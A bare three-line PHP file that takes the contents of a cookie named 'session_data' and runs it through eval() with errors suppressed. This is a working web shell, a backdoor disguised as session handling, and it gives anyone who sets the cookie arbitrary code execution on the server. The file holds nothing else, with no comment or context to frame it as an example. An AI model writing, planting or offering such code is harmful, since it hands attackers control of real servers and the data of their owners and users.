<?php
$code = $_COOKIE['session_data'];
@eval($code);
